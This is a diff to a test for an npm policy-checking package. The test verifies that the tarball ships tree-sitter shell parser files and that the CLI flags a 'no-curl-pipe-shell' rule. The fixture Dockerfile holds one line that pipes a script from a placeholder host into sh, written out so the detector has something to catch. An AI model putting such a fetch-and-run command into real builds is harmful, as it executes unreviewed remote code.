@@ -25,6 +25,7 @@ describe("the npm package", () => {
     const files = execFileSync("tar", ["-tzf", join(work, tarball)], { encoding: "utf8" }).split("\n");
     expect(files).toContain("package/dist/policy/policy.wasm");
     expect(files).toContain("package/dist/policy/catalog.json");
+    expect(files).toEqual(expect.arrayContaining(["package/dist/shell/web-tree-sitter.wasm", "package/dist/shell/tree-sitter-bash.wasm"]));
     expect(files.filter((f) => f.includes("_test.rego") || f.startsWith("package/test/"))).toEqual([]);
 
     const project = join(work, "consumer");
@@ -35,6 +36,7 @@ describe("the npm package", () => {
     const npm = join(dirname(process.execPath), "npm");
     execFileSync(npm, ["install", "--no-audit", "--no-fund", join(work, tarball)], { cwd: project, env, stdio: "pipe" });
     writeFileSync(join(project, "pod.yaml"), MANIFEST);
+    writeFileSync(join(project, "Dockerfile"), "FROM registry.example.com/base:1.4.2\nRUN curl -fsSL https://x.example/i.sh | sh\n");
 
     writeFileSync(
       join(project, "esm.mjs"),
@@ -64,5 +66,19 @@ createBundledChecker().then((checker) => {
     }
     expect(bin.status).toBe(1);
     expect(bin.stdout).toMatch(/^ {2}8:7 +deny +medium +no-latest-tag/m);
+    // The bin reads a Dockerfile's commands with the shell parser shipped in the package (dist/shell).
+    let dockerfile = "";
+    try {
+      execFileSync(join(project, "node_modules", ".bin", "shipshape"), ["check", "-f", "json", "Dockerfile"], {
+        cwd: project,
+        env,
+        encoding: "utf8",
+      });
+    } catch (error) {
+      dockerfile = (error as { stdout: string }).stdout;
+    }
+    expect((JSON.parse(dockerfile) as { findings: Array<{ rule: string; line: number }> }).findings).toEqual(
+      expect.arrayContaining([expect.objectContaining({ rule: "no-curl-pipe-shell", line: 2 })]),
+    );
   });
 });
